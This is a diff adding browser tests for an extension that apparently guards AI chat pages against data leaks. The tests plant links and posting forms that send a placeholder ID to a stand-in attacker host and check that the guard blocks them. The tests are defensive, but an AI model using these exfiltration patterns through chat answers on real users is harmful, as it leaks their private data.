@@ -380,6 +380,55 @@ describe.each(browsers)('the chat guard in $name', ({ open }) => {
     expect(gone()).toEqual(['GET attacker.example/off.png']);
   });
 
+  it('lets the app post to another site, as signing in does, with its body', async () => {
+    await fresh();
+    await tab.evaluate(() => {
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        '<form id="saml" method="post" action="http://honest.example/saml"><input name="SAMLResponse" value="x"></form>',
+      );
+      const form = document.getElementById('saml');
+      if (form instanceof HTMLFormElement) form.submit();
+    }, null);
+    await waitUntil(address, (href) => href === 'http://honest.example/saml');
+    expect(server.seen.filter((line) => line.endsWith('honest.example/saml'))).toEqual([
+      'POST honest.example/saml',
+    ]);
+  });
+
+  it('stops at a made link that stands beside the answer, and at a form of the answer that posts', async () => {
+    const gone = await fresh();
+    await tab.evaluate((base) => {
+      document.body.insertAdjacentHTML(
+        'beforeend',
+        `<aside><a id="drawer" href="${base}/drawer?for=Jordan+Example+482913">Source</a></aside>`,
+      );
+    }, attacker);
+    await settled();
+    await tab.click('#drawer');
+    await waitUntil(address, (href) => href.includes('/leaving.html#'));
+    await fresh();
+    await say(
+      `<form method="post" action="${attacker}/posted"><input name="d" value="482913"><button id="send">Send</button></form>`,
+    );
+    await tab.click('#send');
+    await settled();
+    expect(await address()).toBe(`${chat}/c/${visits}`);
+    expect(gone()).toEqual([]);
+  });
+
+  it('listens to no conversation where it is switched off', async () => {
+    await fresh();
+    await change({ chatModes: { [chatId]: 'off' } });
+    await say('A secret that nobody keeps.');
+    await settled();
+    const kept = await browser.inExtension(
+      async (key) => (await chrome.storage.session.get(key))[key] ?? null,
+      `conversation:${tab.id}`,
+    );
+    expect(kept).toBeNull();
+  });
+
   it('keeps the opener of a window that the app opens, for signing in elsewhere', async () => {
     await fresh();
     await tab.evaluate(() => {
